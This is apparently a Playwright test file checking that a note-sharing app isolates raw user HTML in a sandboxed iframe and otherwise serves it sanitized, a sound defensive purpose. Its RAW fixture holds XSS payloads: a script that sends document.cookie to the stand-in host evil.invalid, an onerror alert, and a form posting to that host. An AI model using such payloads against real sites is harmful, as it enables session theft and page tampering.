import { expect, issueKey, test } from "./browser-test";
import { createTestDatabase, type TestDatabase } from "../../lib/test/database";
import { guardPage } from "./page-guard";
import { startServer, type ServerProcess } from "../support/server-process";
import { npmScript } from "../support/fixtures";
import { testPorts } from "../support/ports";
import { timeouts } from "../support/timeouts";

// HTML_MODE=trusted (Variant A's raw HTML, opt-in) needs a server of its own with that setting.
const port = testPorts.trustedHtml;
const base = `http://127.0.0.1:${port}`;

const RAW = [
  '<h1 style="color: rebeccapurple; position: sticky">Raw heading</h1>',
  "<p id=probe>as written</p>",
  "<style>#probe { color: rgb(0, 128, 0) }</style>",
  "<script>parent.document.title = 'pwned'; fetch('http://evil.invalid/?' + document.cookie)</script>",
  "<img src=x onerror=\"alert('onerror')\">",
  '<form action="http://evil.invalid/form"><input name=q></form>',
].join("\n");

const startTrustedServer = (databaseUrl: string) =>
  startServer({ port, env: { DATABASE_URL: databaseUrl, HTML_MODE: "trusted" } });

async function create(body: object, key?: string) {
  const response = await fetch(`${base}/api/v1/shares`, {
    method: "POST",
    headers: { "content-type": "application/json", ...(key && { "x-api-key": key }) },
    body: JSON.stringify(body),
  });
  expect(response.status).toBe(201);
  return ((await response.json()) as { id: string }).id;
}

async function read(id: string) {
  const response = await fetch(`${base}/api/v1/shares/${id}/read`, { method: "POST" });
  return (await response.json()) as Record<string, unknown>;
}

test("trusted mode: keyed HTML shows as written in a sandbox that cannot reach the page", async ({
  page,
}) => {
  test.setTimeout(timeouts.serverTest);
  let database: TestDatabase | undefined;
  let server: ServerProcess | undefined;
  try {
    database = await createTestDatabase("trusted_html");
    server = await startTrustedServer(database.url);
    const key = (await npmScript("keys", ["issue", "--label", "t"], database.url)).at(-1) ?? "";

    // The API's html stays sanitized; raw_html carries the HTML as written.
    const checked = await create({ content: RAW, format: "html", ttl: "1h" }, key);
    const viaApi = await read(checked);
    expect(viaApi.html).toMatch(
      /^<h1 style="color:rebeccapurple">Raw heading<\/h1>\n<p id="user-content-probe">as written<\/p>\n\s*<img>\s*$/,
    );
    expect(viaApi.raw_html).toBe(RAW);
    // Without a key, and for pages, nothing is kept.
    expect(await read(await create({ content: RAW, format: "html", ttl: "1h" }))).not.toHaveProperty(
      "raw_html",
    );
    const paged = await read(await create({ pages: [{ content: RAW, format: "html" }], ttl: "1h" }, key));
    expect(paged).not.toHaveProperty("raw_html");

    const id = await create({ content: RAW, format: "html", ttl: "1h", burn_after: 1 }, key);
    await page.context().addCookies([{ name: "secret", value: "parent-cookie", url: base }]);
    const guard = guardPage(page, base);
    await page.goto(`${base}/${id}`);
    await page.getByRole("button", { name: "Reveal note" }).click();

    const frameElement = page.locator("iframe.trusted-frame");
    await expect(frameElement).toHaveAttribute("sandbox", "");
    const frame = page.frameLocator("iframe.trusted-frame");
    await expect(frame.getByRole("heading", { name: "Raw heading" })).toHaveCSS("color", "rgb(102, 51, 153)");
    await expect(frame.locator("#probe")).toHaveText("as written");
    await expect(frame.locator("#probe")).toHaveCSS("color", "rgb(0, 128, 0)");
    await expect(frame.locator("form")).toHaveCount(1);

    // From inside the frame: an opaque origin, so the parent's DOM and the site's cookies are out of reach.
    const inside = page.frames().find((candidate) => candidate !== page.mainFrame());
    const probe = await inside?.evaluate(() => {
      const attempt = (read: () => unknown) => {
        try {
          return String(read());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: window.origin,
        parentDom: attempt(() => window.parent.document.title),
        cookie: attempt(() => document.cookie),
        storage: attempt(() => window.localStorage.length),
      };
    });
    expect(probe).toEqual({
      origin: "null",
      parentDom: "SecurityError",
      cookie: "SecurityError",
      storage: "SecurityError",
    });
    await page.waitForTimeout(500);
    expect(await page.title()).not.toBe("pwned");
    expect(guard.dialogs).toEqual([]);
    expect(guard.foreignRequests).toEqual([]);

    await page.getByRole("button", { name: "Show the sanitized version" }).click();
    await expect(page.getByRole("article").getByRole("heading", { name: "Raw heading" })).toBeVisible();
    await expect(page.getByRole("article").locator("script, form, img[src]")).toHaveCount(0);
  } finally {
    await server?.stop();
    await database?.drop();
  }
});

test("default mode: keyed HTML is only ever shown sanitized", async ({ page, api }) => {
  const id = await api.createId(
    { content: RAW, format: "html", ttl: "1h", burn_after: 2 },
    { "x-api-key": await issueKey() },
  );
  expect((await api.read(id)).json).not.toHaveProperty("raw_html");
  await page.goto(`/${id}`);
  await page.getByRole("button", { name: "Reveal note" }).click();
  await expect(page.getByRole("article").getByRole("heading", { name: "Raw heading" })).toBeVisible();
  await expect(page.locator("iframe")).toHaveCount(0);
});
